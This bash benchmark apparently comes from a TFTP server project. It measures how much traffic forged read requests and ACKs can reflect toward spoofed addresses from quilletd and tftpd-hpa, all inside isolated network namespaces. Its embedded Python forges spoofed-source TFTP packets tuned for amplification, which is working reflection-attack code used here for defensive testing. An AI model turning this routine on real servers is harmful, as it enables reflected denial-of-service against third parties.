#!/bin/bash
# Measures what forged packets can draw toward someone else's address: a read request with a
# forged source address (blksize 65464, 2048 or 1468, windowsize 64, tsize 0) and forged ACKs from
# the same address, sent to quilletd (TFTP_OPTIONS=1) and to tftpd-hpa's in.tftpd, each on port 69
# in a network namespace of its own. quilletd runs every transfer on port 69, so blind ACKs reach
# it. in.tftpd answers from a new port for each transfer (RFC 1350's transfer identifier): it runs
# twice, once with the ACKs sent to port 69 (a blind attacker), once sent to the transfer's own
# port (an attacker who sees or guesses it; the script looks it up with ss). The forged addresses
# (10.99.0.0/24) are routed to a gateway that takes everything and answers nothing (no ICMP comes
# back); nftables counts every datagram the server sends toward each. Three attacks per block size:
#   RRQ + ACK 0                  the request and one ACK
#   each position once           the request, then ACK 0, 1, ..., 19
#   each position six times      the request, then six copies of each of ACK 0 to 19
# The datagrams go to the server's address on that link, the ACKs 20 ms apart (so that each meets
# the server's answer to the one before). The counts are read once the servers have given up
# (nothing sent for 20 s). Prints a table of the bytes of UDP payload sent toward the address and
# their ratio to the bytes of UDP payload forged.
#
#   sudo bench/amplification.sh [BUILD_DIR]      IN_TFTPD names in.tftpd (default: unpacked from
#                                                Debian's tftpd-hpa package, never installed)
#
# Needs root (network namespaces, nftables). Bounded: the attacker ends after its 121 datagrams,
# the wait for the servers after 200 s, and both servers are stopped by their own PIDs.
set -euo pipefail

source_dir=$(cd "$(dirname "$0")/.." && pwd)
build_dir=${1:-$source_dir/build}
quilletd=$build_dir/src/quilletd
cache=/var/cache/quillet-bench
[[ $(id -u) -eq 0 ]] || { echo "amplification.sh needs root for its network namespaces" >&2; exit 1; }
[[ -x $quilletd ]] || { echo "missing $quilletd: build first" >&2; exit 1; }
# tftpd-hpa's package would start a service on the host's port 69: unpack it (and libwrap0, which
# it links) instead of installing it.
in_tftpd=${IN_TFTPD:-$(command -v in.tftpd || echo $cache/tftpd-hpa/usr/sbin/in.tftpd)}
if [[ -z ${IN_TFTPD:-} && ! -x $in_tftpd ]]; then
    (mkdir -p $cache && cd $cache && for package in tftpd-hpa libwrap0; do
        ls ${package}_*.deb >/dev/null 2>&1 || timeout 120 apt-get download $package >/dev/null 2>&1
        dpkg-deb -x ${package}_*.deb $package
    done)
fi
export LD_LIBRARY_PATH=$cache/libwrap0/usr/lib/x86_64-linux-gnu

work=$(mktemp -d /tmp/quillet-bench-amplification.XXXXXX)
chmod 755 "$work"
pids=()
namespaces=()
cleanup() {
    local pid namespace
    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
    for pid in "${pids[@]}"; do wait "$pid" 2>/dev/null || true; done
    for namespace in "${namespaces[@]}"; do ip netns del "$namespace" 2>/dev/null || true; done
    [[ -n ${KEEP:-} ]] && cp -r "$work" /tmp/amp-kept; rm -rf "$work"
}
trap cleanup EXIT
mkdir -p "$work/served" "$work/config/Carrowmore"
head -c 4000000 /dev/urandom >"$work/served/amp.bin"
chmod 644 "$work/served/amp.bin"
printf '[General]\nTFTP_OPTIONS=1\n' >"$work/config/Carrowmore/Quillet.conf"

sizes=(65464 2048 1468)
attacks=("RRQ + ACK 0" "each position once" "each position six times")
# The forged address of block size i and attack j: 10.99.0.(10 i + j + 1).
address() { echo "10.99.0.$((10 * $1 + $2 + 1))"; }

# A namespace with a dummy interface for the forged addresses and a counter for each.
setup_namespace() {
    local namespace=quillet-bench-amp-$1-$$ i j rules=""
    ip netns add "$namespace"
    namespaces+=("$namespace")
    ip netns exec "$namespace" ip link set lo up
    # A gateway that never answers: a veth whose far end drops what is not for it, and a fixed
    # neighbour entry, so that no ARP goes unanswered (which would come back as ICMP).
    ip netns exec "$namespace" ip link add victims type veth peer name victims-end
    ip netns exec "$namespace" ip link set victims up
    ip netns exec "$namespace" ip link set victims-end up
    ip netns exec "$namespace" ip addr add 10.98.0.1/24 dev victims
    ip netns exec "$namespace" ip neigh add 10.98.0.2 lladdr 02:00:00:00:00:02 dev victims nud permanent
    ip netns exec "$namespace" ip route add 10.99.0.0/24 via 10.98.0.2 dev victims
    for i in "${!sizes[@]}"; do
        for j in "${!attacks[@]}"; do
            rules+="add rule ip amp out ip daddr $(address "$i" "$j") counter"$'\n'
        done
    done
    ip netns exec "$namespace" nft -f - <<<"add table ip amp
add chain ip amp out { type filter hook output priority 0; }
$rules"
}

start_server() {
    local label=$1
    shift
    (cd "$work/served" && HOME="$work" XDG_CONFIG_HOME="$work/config" \
        exec ip netns exec "quillet-bench-amp-$label-$$" "$@" >"$work/$label.out" 2>&1) &
    pids+=($!)
    for _ in $(seq 50); do
        [[ -n $(ip netns exec "quillet-bench-amp-$label-$$" ss -Hlun 'sport = :69') ]] && return 0
        sleep 0.1
    done
    echo "$label did not bind port 69: $(cat "$work/$label.out")" >&2
    exit 1
}

# Sends every attack at once, one forged address each, the ACKs to port 69 or (seen) to the port
# that answers, and prints the forged payload bytes of each address: "ADDRESS BYTES".
attack() {
    ip netns exec "quillet-bench-amp-$1-$$" timeout 60 python3 - "$2" "${sizes[@]}" <<'PY'
import re, socket, subprocess, sys, time
IP_TRANSPARENT = 19  # lets a socket send from an address that is not the host's
plans = {}
for i, size in enumerate(sys.argv[2:]):
    options = b"blksize\0%s\0windowsize\0" % size.encode() + b"64\0tsize\0" + b"0\0"
    rrq = b"\0\1amp.bin\0octet\0" + options
    acks = [b"\0\4" + bytes([k >> 8, k & 0xFF]) for k in range(20)]
    for j, datagrams in enumerate([[rrq, acks[0]], [rrq] + acks, [rrq] + [a for a in acks for _ in range(6)]]):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
        s.bind(("10.99.0.%d" % (10 * i + j + 1), 40000))
        plans[s] = datagrams
ports = {s: 69 for s in plans}
for step in range(max(len(d) for d in plans.values())):
    if step == 1 and sys.argv[1] == "seen":
        for s in plans:  # the local port of the server's socket connected to the forged address
            out = subprocess.run(["ss", "-Hun", "dst", s.getsockname()[0]], capture_output=True, text=True).stdout
            found = re.search(r"10\.98\.0\.1:(\d+)", out)
            ports[s] = int(found.group(1)) if found else 69
    for s, datagrams in plans.items():
        if step < len(datagrams):
            s.sendto(datagrams[step], ("10.98.0.1", ports[s]))
    time.sleep(0.02)
for s, datagrams in plans.items():
    print(s.getsockname()[0], sum(len(d) for d in datagrams))
PY
}

# "ADDRESS PACKETS BYTES" for each forged address, bytes of IP datagrams as sent.
counters() {
    ip netns exec "quillet-bench-amp-$1-$$" nft list chain ip amp out |
        sed -nE 's/.*ip daddr ([0-9.]+) counter packets ([0-9]+) bytes ([0-9]+).*/\1 \2 \3/p'
}

servers=(quilletd tftpd-hpa tftpd-hpa-seen)
for label in "${servers[@]}"; do
    setup_namespace "$label"
    case $label in
        quilletd) start_server "$label" "$quilletd" ;;
        *) start_server "$label" "$in_tftpd" --foreground --secure --user nobody "$work/served" ;;
    esac
done
attackers=()
for label in "${servers[@]}"; do
    attack "$label" "$([[ $label == *-seen ]] && echo seen || echo blind)" >"$work/$label.forged" &
    attackers+=($!)
done
wait "${attackers[@]}"
echo "forged; waiting until the servers have sent nothing for 20 s (about 90 s)" >&2
quiet=0
for ((second = 0; second < 200 && quiet < 20; second++)); do
    sleep 1
    now=$(for label in "${servers[@]}"; do counters "$label"; done)
    [[ $now == "${before:-}" ]] && quiet=$((quiet + 1)) || quiet=0
    before=$now
done

echo "| Server | blksize | Attack | Forged datagrams | Forged bytes | Bytes toward the address | Ratio |"
echo "|---|---|---|---|---|---|---|"
for label in "${servers[@]}"; do
    counters "$label" >"$work/$label.sent"
    for i in "${!sizes[@]}"; do
        for j in "${!attacks[@]}"; do
            target=$(address "$i" "$j")
            forged=$(awk -v a="$target" '$1 == a { print $2 }' "$work/$label.forged")
            read -r packets bytes < <(awk -v a="$target" '$1 == a { print $2, $3 }' "$work/$label.sent")
            count=$((j == 0 ? 2 : j == 1 ? 21 : 121))
            payload=$((bytes - 28 * packets))  # less the IP and UDP headers
            printf '| %s | %s | %s | %d | %d | %d | %d |\n' "$label" "${sizes[i]}" "${attacks[j]}" \
                "$count" "$forged" "$payload" $((payload / forged))
        done
    done
done
